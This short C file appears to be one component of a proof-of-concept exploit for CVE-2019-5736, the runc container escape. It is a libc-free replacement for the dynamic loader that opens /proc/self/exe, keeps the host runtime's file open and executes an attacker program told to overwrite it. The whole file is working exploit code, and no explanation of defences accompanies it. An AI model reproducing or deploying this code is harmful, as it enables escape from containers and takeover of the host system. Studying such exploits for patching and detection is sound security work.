/* Replaces, in an image, the dynamic loader (CVE-2019-5736): whatever dynamic program runs there, the loader holds that
 * program's file and executes the attacker's. Without a C library, because it runs in another program's image. */
static long call(long number, long a, long b, long c, long d) {
    long result;
    register long fourth __asm__("r10") = d;
    __asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c), "r"(fourth) : "rcx", "r11", "memory");
    return result;
}

static const char exe[] = "/proc/self/exe", program[] = "/bin/attack";

void _start(void) {
    const char *args[] = {program, "overwrite", "loader", "/none", 0};
    const char *none[] = {0};
    long file = call(257 /* openat */, -100, (long)exe, 0, 0);
    if (file >= 0 && file != 3) call(33 /* dup2 */, file, 3, 0, 0);
    call(59 /* execve */, (long)program, (long)args, (long)none, 0);
    call(231 /* exit_group */, 1, 0, 0, 0);
    for (;;) {}
}
